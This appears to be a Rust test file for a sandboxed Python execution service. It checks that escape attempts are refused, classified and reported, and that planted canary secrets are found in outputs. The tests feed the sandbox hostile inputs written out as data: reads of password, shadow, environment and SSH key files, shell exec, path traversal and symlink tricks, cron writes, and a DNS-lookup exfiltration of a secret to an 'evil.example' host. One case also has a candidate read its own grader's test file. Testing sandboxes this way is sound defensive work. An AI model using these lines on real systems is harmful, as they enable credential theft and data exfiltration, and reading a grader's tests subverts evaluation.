//! What a program tries to reach outside its sandbox is reported, and none of it is the host's.

use serde_json::{Value, json};

use crate::harness::{Server, assert_shows, run};

const ISOLATED: &str = "isolated";
const IN_PROCESS: &str = "in_process";

async fn attempts(code: &str) -> Vec<Value> {
    let answer = run(code).await;
    let attempts = answer["boundary"]["attempts"].as_array().expect("a list").clone();
    // To quote the line in a traceback, Python reads the program's own file.
    // A socket, as a pipe, has a descriptor of /dev/null.
    let own = ["/home/user/solution.py", "/dev/null"];
    attempts.into_iter().filter(|attempt| own.iter().all(|path| attempt["target"] != *path)).collect()
}

fn refused(kind: &str, operation: &str, target: &str) -> Value {
    json!({"kind": kind, "operation": operation, "target": target, "allowed": false, "count": 1})
}

#[tokio::test]
async fn each_attempt_is_reported_by_kind_and_target() {
    let tries = [
        ("open('/etc/passwd')", refused("file", "open", "/etc/passwd")),
        ("open('../../etc/shadow')", refused("file", "open", "/etc/shadow")),
        ("open('/proc/self/environ', 'rb')", refused("file", "open", "/proc/self/environ")),
        ("import os; os.listdir('/proc')", refused("file", "open", "/proc")),
        ("import os; os.stat('/home/admin/.ssh/id_rsa')", refused("file", "stat", "/home/admin/.ssh/id_rsa")),
        ("import socket; socket.socket(type=socket.SOCK_RAW)", refused("network", "socket", "AF_INET")),
        ("import socket; socket.socket().connect(('8.8.8.8', 53))", refused("network", "connect", "8.8.8.8:53")),
        ("import socket; socket.socket().connect_ex(('a.example', 80))", refused("network", "connect", "a.example:80")),
        ("import socket; socket.socket().bind(('10.0.0.1', 80))", refused("network", "bind", "10.0.0.1:80")),
        (
            "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
            refused("network", "sendto", "8.8.8.8:53"),
        ),
        (
            "import socket; socket.create_connection(('example.com', 80))",
            refused("network", "getaddrinfo", "example.com:80"),
        ),
        (
            "import urllib.request; urllib.request.urlopen('https://example.com/x')",
            refused("network", "getaddrinfo", "example.com:443"),
        ),
        ("import os; os.execv('/bin/sh', ['sh'])", refused("process", "execv", "/bin/sh")),
        ("import os; os.fork()", refused("process", "fork", "")),
        ("import os; os.kill(1, 9)", refused("process", "kill", "1")),
        ("import signal; signal.alarm(1)", refused("process", "alarm", "")),
        ("import ctypes; ctypes.CDLL('libc.so.6')", refused("process", "load", "libc.so.6")),
        (
            "import importlib.machinery as m; m.ExtensionFileLoader('x', '/lib/x.so').load_module()",
            refused("process", "load", "/lib/x.so"),
        ),
        ("import socket; socket.gethostbyname('a.example')", refused("network", "gethostbyname", "a.example")),
        ("import socket; socket.gethostbyname_ex('a.example')", refused("network", "gethostbyname", "a.example")),
        ("import socket; socket.gethostbyaddr('8.8.8.8')", refused("network", "gethostbyaddr", "8.8.8.8")),
        ("import socket; socket.getnameinfo(('8.8.8.8', 53), 0)", refused("network", "getnameinfo", "8.8.8.8:53")),
        ("import socket; socket.getfqdn('a.example')", refused("network", "gethostbyaddr", "a.example")),
        (
            "import asyncio; asyncio.run(asyncio.open_connection('a.example', 443))",
            refused("network", "connect", "a.example:443"),
        ),
        (
            "import asyncio; asyncio.run(asyncio.new_event_loop().sock_connect(None, ('a.example', 80)))",
            refused("network", "connect", "a.example:80"),
        ),
        (
            "import threading as t\nfor n in range(257): t.Thread(target=t.Event().wait, name=f't{n}', daemon=True).start()",
            refused("thread", "start", "t256"),
        ),
        ("import os; os.environ['SECRET']", refused("environment", "get", "SECRET")),
        ("import os; os.getenv('TOKEN')", refused("environment", "get", "TOKEN")),
        ("import os; dict(os.environ)", refused("environment", "list", "*")),
    ];
    for (code, expected) in tries {
        assert_eq!(attempts(code).await, [expected], "{code}");
    }
}

#[tokio::test]
async fn the_same_attempt_again_is_counted() {
    let code = "for _ in range(5):\n    try: open('/etc/passwd')\n    except OSError: pass";
    assert_eq!(
        attempts(code).await,
        [json!({"kind": "file", "operation": "open", "target": "/etc/passwd", "allowed": false, "count": 5})]
    );
}

#[tokio::test]
async fn a_way_around_through_a_link_is_seen() {
    let code = "import os\nos.symlink('/etc/passwd', 'link')\ntry: open('link')\nexcept OSError: print('refused')";
    let answer = run(code).await;
    assert_shows(&answer, json!({"stdout": "refused\n"}));
    let listed = answer["boundary"]["attempts"].as_array().expect("a list");
    assert!(listed.contains(&refused("file", "open", "/etc/passwd")), "{answer}");
}

#[tokio::test]
async fn ten_thousand_attempts_are_bounded_and_counted() {
    let code = "import os\nfor i in range(10_000):\n    try: open(f'/etc/{i}')\n    except OSError: pass\n    os.getenv('x' * 5000 + str(i))";
    let answer = run(code).await;
    let listed = answer["boundary"]["attempts"].as_array().expect("a list");
    let counted: u64 = listed.iter().map(|attempt| attempt["count"].as_u64().expect("a number")).sum();
    assert!((100..1000).contains(&listed.len()), "{} are listed", listed.len());
    assert_eq!(counted + answer["boundary"]["dropped"].as_u64().expect("a number"), 20_000);
    assert!(listed.iter().all(|attempt| attempt["target"].as_str().expect("text").len() <= 1000), "{answer}");
}

#[tokio::test]
async fn a_refused_attempt_is_not_hidden_by_many_allowed_ones() {
    let code = "for i in range(1000): open(f'{i}', 'w').close()\ntry: open('/etc/shadow')\nexcept OSError: pass";
    assert!(attempts(code).await.contains(&refused("file", "open", "/etc/shadow")));
}

#[tokio::test]
async fn a_program_that_keeps_to_itself_reports_nothing_outside() {
    let code = "\
import argparse, collections, csv, dataclasses, datetime, decimal, functools, json, logging, math, os, pathlib, random, re
import sqlite3, statistics, subprocess, tempfile, threading, typing, unittest, urllib.request, uuid
print(random.random(), datetime.datetime.now(), uuid.uuid4(), decimal.Decimal(1) / 3, json.dumps({}), os.getcwd())
logging.warning('x')
with tempfile.TemporaryDirectory() as directory: pathlib.Path(directory, 'a').write_text('x')
open('a', 'w').write('x')
print(open('a').read(), os.listdir('.'), os.path.exists('b'))
db = sqlite3.connect(':memory:'); db.execute('create table t (a)'); db.close()
try: import nothing
except ImportError: pass
try: 1 / 0
except ZeroDivisionError: logging.exception('x')";
    let outside: Vec<Value> = attempts(code)
        .await
        .into_iter()
        .filter(|attempt| {
            let target = attempt["target"].as_str().expect("text");
            attempt["allowed"] == false || !(target.starts_with("/home/user/") || target.starts_with("/tmp/"))
        })
        .collect();
    assert!(outside.is_empty(), "{outside:?}");
}

#[tokio::test]
async fn nothing_of_the_host_is_to_be_seen() {
    const CANARY: &str = "canary-7f3a91";
    let directory = tempfile::tempdir().expect("a directory");
    std::fs::write(directory.path().join("canary.txt"), CANARY).expect("a file");
    let server = Server::start_with(&["--workers", "1"], |command| {
        command.current_dir(directory.path()).env("CANARY", CANARY);
    });
    let path = directory.path().display();
    let code = format!(
        "\
import os, sys
seen = [dict(os.environ), sys.argv, sys.path, os.getcwd()]
for root, directories, files in os.walk('/'):
    seen += [os.path.join(root, name) for name in files]
    for name in files:
        try: content = open(os.path.join(root, name), 'rb').read()
        except OSError: continue
        # Not said in one word, as the program is a file itself.
        seen.append(content if b'-'.join([b'canary', b'7f3a91']) in content else len(content))
for name in ['canary.txt', '{path}/canary.txt', '/proc/self/environ', '/proc/1/environ', '/proc/self/cwd/canary.txt', '/dev/mem']:
    try: seen.append(open(name, 'rb').read(100_000))
    except OSError: pass
for fd in range(64):
    try: seen.append(os.fstat(fd))
    except OSError: pass
    try: seen.append(os.open('canary.txt', os.O_RDONLY, dir_fd=fd))
    except (OSError, NotImplementedError): pass
print(seen)"
    );
    let answer = server.execute(json!({"code": code})).await;
    assert_shows(&answer, json!({"status": "ok"}));
    let stdout = answer["stdout"].as_str().expect("text");
    // The program itself names the file, but nothing else does, and nothing has its content.
    assert!(!stdout.contains(CANARY) && stdout.contains("solution.py"), "{stdout}");
    assert!(!answer.to_string().contains(CANARY), "{answer}");
}

async fn class(code: &str) -> Value {
    run(code).await["stderr_class"].clone()
}

#[tokio::test]
async fn what_would_have_reached_outside_is_unsafe_and_what_is_only_missing_is_unsupported() {
    let cases = [
        ("import socket; socket.socket().connect(('8.8.8.8', 53))", "unsafe_operation"),
        ("import socket; socket.gethostbyname('a.example')", "unsafe_operation"),
        ("import asyncio; asyncio.run(asyncio.open_connection('a.example', 443))", "unsafe_operation"),
        ("import asyncio; asyncio.run(asyncio.start_server(print, '10.0.0.1', 80))", "unsafe_operation"),
        ("import os; os.fork()", "unsafe_operation"),
        ("import os; os.execv('/bin/sh', ['sh'])", "unsafe_operation"),
        ("import os; os.kill(1, 9)", "unsafe_operation"),
        ("import ctypes; ctypes.CDLL('libc.so.6')", "unsafe_operation"),
        ("import importlib.machinery as m; m.ExtensionFileLoader('x', '/x.so').load_module()", "unsafe_operation"),
        (
            "import threading as t\nfor n in range(257): t.Thread(target=t.Event().wait, daemon=True).start()",
            "unsupported_operation",
        ),
        ("import os; os.waitpid(-1, 0)", "unsupported_operation"),
        ("import signal; signal.alarm(1)", "unsupported_operation"),
        ("import readline", "missing_dependency"),
        ("import os; os.setuid(0)", "exception"),
    ];
    for (code, expected) in cases {
        assert_eq!(class(code).await, expected, "{code}");
    }
}

#[tokio::test]
async fn a_file_that_was_refused_is_denied_and_one_that_is_not_there_is_not() {
    let cases = [
        ("open('/etc/passwd')", "permission_denied"),
        ("open('../../etc/shadow')", "permission_denied"),
        ("open(b'/etc/passwd')", "permission_denied"),
        ("open('/etc/cron.d/x', 'w')", "permission_denied"),
        ("import os; os.listdir('/proc')", "permission_denied"),
        ("import os; os.stat('/home/admin/.ssh/id_rsa')", "permission_denied"),
        ("import os; open('a', 'w').close(); os.rename('a', '/etc/cron.d/a')", "permission_denied"),
        ("import os; os.symlink('/etc/passwd', 'link'); open('link')", "permission_denied"),
        ("import os; os.mkdir('d'); os.chdir('d'); open('../../../etc/passwd')", "permission_denied"),
        ("import pathlib; pathlib.Path('/etc/passwd').read_text()", "permission_denied"),
        ("import shutil; shutil.copy('/etc/passwd', 'x')", "permission_denied"),
        ("import os; os.rmdir('/tmp')", "permission_denied"),
        ("import errno, os; raise OSError(errno.EROFS, os.strerror(errno.EROFS))", "permission_denied"),
        ("open('missing.txt')", "exception"),
        ("open('/tmp/missing/deep')", "exception"),
        ("open('/home/user/../user/missing')", "exception"),
        ("import os; os.mkdir('/home')", "exception"),
        ("open('/', 'w')", "exception"),
        // It says so, but nothing of the kind was refused.
        ("import errno; raise FileNotFoundError(errno.ENOENT, 'no', '/etc/passwd')", "exception"),
    ];
    for (code, expected) in cases {
        assert_eq!(class(code).await, expected, "{code}");
    }
}

#[tokio::test]
async fn the_class_is_that_of_the_cause_and_not_of_what_was_caught_before() {
    let tried = |act: &str, then: &str| format!("import os, socket\ntry: {act}\nexcept OSError as e: {then}");
    let cases = [
        ("import urllib.request; urllib.request.urlopen('http://a.example')".to_owned(), "unsafe_operation"),
        ("import urllib.request; urllib.request.urlopen('file:///etc/passwd')".to_owned(), "permission_denied"),
        (tried("socket.gethostbyname('a.example')", "raise RuntimeError('offline') from e"), "unsafe_operation"),
        (tried("os.fork()", "raise RuntimeError(e)"), "unsafe_operation"),
        (tried("open('/etc/passwd')", "raise RuntimeError('no users') from e"), "permission_denied"),
        (tried("os.rmdir('/tmp')", "raise RuntimeError('kept') from e"), "permission_denied"),
        (tried("socket.gethostbyname('a.example')", "raise ValueError('other')"), "exception"),
        (tried("open('/etc/passwd')", "raise ValueError('other') from None"), "exception"),
        (tried("socket.gethostbyname('a.example')", "{}['key']"), "exception"),
        (tried("socket.gethostbyname('a.example')", "assert False"), "assertion_failure"),
        (tried("open('/etc/passwd')", "open('missing.txt')"), "exception"),
        (tried("socket.gethostbyname('a.example')", "pass"), "none"),
    ];
    for (code, expected) in cases {
        assert_eq!(class(&code).await, expected, "{code}");
    }
}

#[tokio::test]
async fn a_class_that_the_record_does_not_bear_out_is_not_taken() {
    for mark in ["e._proofbox_refused = 'unsafe_operation'", "e._proofbox_paths = ['/etc/passwd']"] {
        let code = format!("e = ValueError('x')\n{mark}\nraise e");
        assert_eq!(class(&code).await, "exception", "{code}");
        let marked = format!("def f():\n    e = ValueError('x')\n    {mark}\n    raise e");
        for grading in [ISOLATED, IN_PROCESS] {
            assert_eq!(class_of_case(&marked, grading).await, "exception", "{mark}, {grading}");
        }
    }
}

async fn class_of_case(code: &str, grading: &str) -> Value {
    let tests = json!({"kind": "asserts", "asserts": ["assert f() == 1"]});
    let answer = Server::shared().execute(json!({"code": code, "tests": tests, "grading": grading})).await;
    assert_eq!(answer["cases"][0]["stderr_class"], answer["stderr_class"], "{answer}");
    answer["stderr_class"].clone()
}

#[tokio::test]
async fn cases_have_these_classes_wherever_they_run() {
    let cases = [
        ("import socket\ndef f(): socket.gethostbyname('a.example')", "unsafe_operation"),
        ("import os\ndef f(): os.fork()", "unsafe_operation"),
        (
            "import socket\nclass Offline(Exception): pass\ndef f():\n    try: socket.gethostbyname('a.example')\n    except OSError as e: raise Offline from e",
            "unsafe_operation",
        ),
        ("import signal\ndef f(): signal.alarm(1)", "unsupported_operation"),
        ("def f(): open('/etc/passwd')", "permission_denied"),
        ("def f(): open('/srv/x', 'w')", "permission_denied"),
        ("import os\nos.mkdir('d'); os.chdir('d')\ndef f(): open('../../../etc/passwd')", "permission_denied"),
        (
            "class Lost(OSError): pass\ndef f():\n    try: open('/etc/passwd')\n    except OSError as e: raise Lost('x') from e",
            "permission_denied",
        ),
        ("def f(): open('missing.txt')", "exception"),
        ("def f():\n    try: open('/etc/passwd')\n    except OSError: return 2", "assertion_failure"),
    ];
    for (code, expected) in cases {
        for grading in [ISOLATED, IN_PROCESS] {
            assert_eq!(class_of_case(code, grading).await, expected, "{grading}: {code}");
        }
    }
}

#[tokio::test]
async fn an_import_that_was_refused_fails_each_case_with_its_class() {
    for (code, expected) in [
        ("import socket\nsocket.gethostbyname('a.example')", "unsafe_operation"),
        ("open('/etc/passwd')", "permission_denied"),
    ] {
        for grading in [ISOLATED, IN_PROCESS] {
            let tests = json!({"kind": "asserts", "asserts": ["assert f() == 1"]});
            let answer = Server::shared().execute(json!({"code": code, "tests": tests, "grading": grading})).await;
            assert_shows(&answer, json!({"status": "failed", "stderr_class": expected, "error": {"class": expected}}));
        }
    }
    let tests = json!({"kind": "stdin_stdout", "cases": [{"expected_stdout": ""}]});
    let answer = Server::shared().execute(json!({"code": "open('/etc/passwd')", "tests": tests})).await;
    assert_shows(&answer, json!({"status": "failed", "cases": [{"stderr_class": "permission_denied"}]}));
}

#[tokio::test]
async fn a_candidate_that_looks_for_its_tests_is_reported_and_denied() {
    let code = "def f(): return open('/tests/test_solution.py').read()";
    let tests = json!({"kind": "unittest", "source": "import unittest\nfrom solution import f\nclass T(unittest.TestCase):\n    def test_f(self): f()"});
    let answer = Server::shared().execute(json!({"code": code, "tests": tests})).await;
    assert_shows(&answer, json!({"status": "failed", "stderr_class": "permission_denied"}));
    let listed = answer["boundary"]["attempts"].as_array().expect("a list");
    assert!(listed.contains(&refused("file", "open", "/tests/test_solution.py")), "{answer}");
}

/// What was used, as the answer lists it: kind, operation, target, count.
async fn used(mut request: Value) -> Vec<Value> {
    if request["report_use"].is_null() {
        request["report_use"] = json!(["time", "entropy"]);
    }
    let answer = Server::shared().execute(request).await;
    let attempts = answer["boundary"]["attempts"].as_array().expect("a list");
    let uses = attempts.iter().filter(|attempt| attempt["kind"] == "time" || attempt["kind"] == "entropy");
    uses.map(|attempt| {
        assert_eq!(attempt["allowed"], true, "{attempt}");
        json!([attempt["kind"], attempt["operation"], attempt["target"], attempt["count"]])
    })
    .collect()
}

#[tokio::test]
async fn the_use_of_time_and_entropy_is_counted_where_it_is_asked_for() {
    let code = "import os, time\nfor _ in range(3): time.time()\ntime.monotonic(); time.sleep(0.001); os.urandom(8)";
    let time = [
        json!(["time", "clock_time_get", "realtime", 3]),
        json!(["time", "clock_time_get", "monotonic", 2]),
        json!(["time", "poll_oneoff", "sleep", 1]),
    ];
    let entropy = [json!(["entropy", "random_get", "", 1])];
    assert_eq!(used(json!({"code": code})).await, [&time[..], &entropy[..]].concat());
    assert_eq!(used(json!({"code": code, "report_use": ["time"]})).await, time);
    assert_eq!(used(json!({"code": code, "report_use": ["entropy"]})).await, entropy);
    assert_eq!(used(json!({"code": code, "report_use": []})).await, [] as [Value; 0]);
    // The virtual clock is one, too.
    assert_eq!(used(json!({"code": code, "deterministic": {"seed": 1}})).await, [&time[..], &entropy[..]].concat());
}

#[tokio::test]
async fn what_the_runner_uses_itself_is_not_counted() {
    for code in ["", "print(1)", "import random, time, uuid, json", "1 / 0"] {
        assert_eq!(used(json!({"code": code})).await, [] as [Value; 0], "{code}");
    }
    let tests = json!({"kind": "pytest", "source": "from solution import f\ndef test_f(): assert f() == 1"});
    assert_eq!(used(json!({"code": "def f(): return 1", "tests": tests})).await, [] as [Value; 0]);
    let tests = json!({"kind": "asserts", "asserts": ["assert f() > 1", "assert f() > 1"]});
    let code = "import time\ndef f(): return time.time()";
    let twice = [json!(["time", "clock_time_get", "realtime", 2])];
    for grading in [ISOLATED, IN_PROCESS] {
        assert_eq!(used(json!({"code": code, "tests": tests, "grading": grading})).await, twice, "{grading}");
    }
    let cases = json!([{"expected_stdout": "1\n"}, {"expected_stdout": "1\n"}]);
    let code = "import time\nprint(1); time.time()";
    assert_eq!(used(json!({"code": code, "tests": {"kind": "stdin_stdout", "cases": cases}})).await, twice);
}

#[tokio::test]
async fn random_bytes_are_as_many_as_are_asked_for() {
    let code = "import os\na, b = os.urandom(1_000_000), os.urandom(1_000_000)\nprint(len(a), a != b, len(set(a)))";
    for deterministic in [Value::Null, json!({"seed": 3})] {
        let answer = Server::shared().execute(json!({"code": code, "deterministic": deterministic})).await;
        assert_shows(&answer, json!({"stdout": "1000000 True 256\n"}));
    }
}

const SECRET: &str = "s3cret-canary-4711";

/// Which places and encodings of the one canary were found.
async fn found(mut request: Value) -> Vec<(String, String)> {
    request["canaries"] = json!(["never-there", SECRET]);
    if request["files"].is_null() {
        request["files"] = json!({"secret": SECRET});
    }
    let answer = Server::shared().execute(request).await;
    let canaries = answer["boundary"]["canaries"].as_array().expect("a list");
    assert!(canaries.iter().all(|canary| canary["index"] == 1), "{canaries:?}");
    let found = canaries.iter().flat_map(|canary| canary["found"].as_array().expect("a list"));
    let word = |value: &Value| value.as_str().expect("a word").to_owned();
    found.map(|found| (word(&found["where"]), word(&found["encoding"]))).collect()
}

#[tokio::test]
async fn a_canary_is_found_in_each_output() {
    let secret = "secret = open('secret').read()\n";
    let function = json!({"kind": "asserts", "asserts": ["assert f(1) == 1"]});
    let cases = [
        (json!({"code": "print(secret)"}), vec![("stdout", "plain")]),
        (json!({"code": "import sys; sys.stderr.write(secret[::-1])"}), vec![("stderr", "reversed")]),
        (json!({"code": "x = {'a': [secret.encode()]}", "result": {"variable": "x"}}), vec![("result", "plain")]),
        (json!({"code": "x = secret.encode().hex()", "result": {"variable": "x"}}), vec![("result", "hex")]),
        (
            json!({"code": "import base64; open('o', 'wb').write(base64.b64encode(b'x' + secret.encode()))", "fetch_files": ["o"]}),
            vec![("files", "base64")],
        ),
        (
            json!({"code": "import sys; sys.exit = 0; open('/etc/' + secret)"}),
            vec![("stderr", "plain"), ("error", "plain"), ("boundary", "plain")],
        ),
        (
            json!({"code": "import socket\ntry: socket.gethostbyname(secret + '.evil.example')\nexcept OSError: pass"}),
            vec![("boundary", "plain")],
        ),
        (
            json!({"code": "def f(x): print(secret); return x", "tests": function}),
            vec![("stdout", "plain"), ("cases", "plain")],
        ),
        (
            json!({"code": "def f(x): raise ValueError(secret)", "tests": function}),
            vec![("error", "plain"), ("cases", "plain")],
        ),
        (
            json!({"code": "", "tests": {"kind": "evaluator", "source": "def evaluate(app_params, inputs, output, correct_answer):\n    return {'score': 1, 'reason': 's3cret' + '-canary-4711'}"}}),
            vec![("evaluation", "plain")],
        ),
        (
            json!({"code": "def f(x): return x", "tests": {"kind": "asserts", "asserts": ["print('s3cret' + '-canary-4711')"]}}),
            vec![("grader", "plain")],
        ),
        (
            json!({"code": "def f(n): raise ValueError(secret)", "complexity": {"generator": "def generate(n): return (n,)", "entry_point": "f", "sizes": [1]}}),
            vec![("complexity", "plain")],
        ),
        (
            json!({"code": "from urllib.parse import quote; print(''.join(f'%{ord(c):02x}' for c in secret))"}),
            vec![("stdout", "percent")],
        ),
        (json!({"code": "for c in secret: print(c)"}), vec![("stdout", "split")]),
        (json!({"code": "print(secret[:-1])"}), vec![]),
    ];
    for (mut request, expected) in cases {
        request["code"] = json!(format!("{secret}{}", request["code"].as_str().expect("code")));
        let seen = found(request.clone()).await;
        let seen: Vec<(&str, &str)> = seen.iter().map(|(place, encoding)| (&**place, &**encoding)).collect();
        // Grading may quote what a candidate said in more than one place.
        assert!(expected.iter().all(|place| seen.contains(place)), "{request}: {seen:?}");
        assert!(!expected.is_empty() || seen.is_empty(), "{request}: {seen:?}");
    }
}

#[tokio::test]
async fn canaries_are_found_before_hiding_in_every_run_and_every_repetition() {
    let tests = json!({"kind": "asserts", "asserts": ["assert f(1) == 1"]});
    let leak = "def f(x):\n    print(open('secret').read())\n    return x";
    let hidden = json!({"code": leak, "tests": tests, "visibility": "hidden"});
    assert!(found(hidden).await.contains(&("stdout".to_owned(), "plain".to_owned())));
    // Only one of the runs gives it out, and it is not the one that the answer shows.
    let cases = json!([{"stdin": "1", "expected_stdout": "1"}, {"stdin": SECRET, "expected_stdout": SECRET}]);
    let second = json!({"code": "print(input())", "tests": {"kind": "stdin_stdout", "cases": cases}});
    assert_eq!(found(second).await, [("stdout".to_owned(), "plain".to_owned())]);
    let seldom = "import random\nif random.random() < 0.3: print(open('secret').read())";
    assert_eq!(found(json!({"code": seldom, "repeat": 40})).await, [("stdout".to_owned(), "plain".to_owned())]);
}

#[tokio::test]
async fn a_canary_changes_no_verdict_and_is_there_in_suites() {
    let item = json!({"id": "a", "code": "def f(x): print('s3cret' + '-canary-4711'); return x"});
    let tests = json!({"kind": "asserts", "asserts": ["assert f(1) == 1"]});
    let suite = json!({"items": [item], "defaults": {"tests": tests, "canaries": [SECRET]}});
    let (status, body) = Server::shared().post("/v1/suites", &suite).await;
    let body = body.as_str().expect("more than one line").to_owned();
    let line: Value = serde_json::from_str(body.lines().next().expect("a line")).expect("JSON");
    assert_eq!(status, 200);
    assert_shows(&line, json!({"status": "passed"}));
    let sighting = json!({"where": "stdout", "encoding": "plain"});
    assert!(line["boundary"]["canaries"][0]["found"].as_array().expect("a list").contains(&sighting), "{line}");
}

#[tokio::test]
async fn canaries_that_cannot_be_looked_for_are_refused_without_being_repeated() {
    let cases = [
        (json!(SECRET), 400, "canaries"),
        (json!({SECRET: 1}), 400, "canaries"),
        (json!(["fine", {"a": SECRET}]), 400, "canaries[1]"),
        (json!(["fine", "abc"]), 422, "canaries[1]"),
        (json!([SECRET.repeat(100)]), 422, "canaries[0]"),
        (json!(vec![SECRET; 33]), 422, "canaries"),
    ];
    for (canaries, code, field) in cases {
        let request = json!({"code": "1", "canaries": canaries});
        let (status, answer) = Server::shared().post("/v1/execute", &request).await;
        assert_eq!((status, &answer["error"]["field"]), (code, &json!(field)), "{answer}");
        assert!(!answer.to_string().contains(SECRET), "{answer}");
    }
    let (status, answer) = Server::shared().post("/v1/execute", &json!({"code": "1", "report_use": ["clock"]})).await;
    assert_eq!((status, &answer["error"]["field"]), (400, &json!("report_use[0]")), "{answer}");
    let canaries = vec!["x".repeat(1024); 32];
    let answer = Server::shared().execute(json!({"code": "print('x' * 1023)", "canaries": canaries})).await;
    assert_shows(&answer, json!({"status": "ok", "boundary": {"canaries": []}}));
}
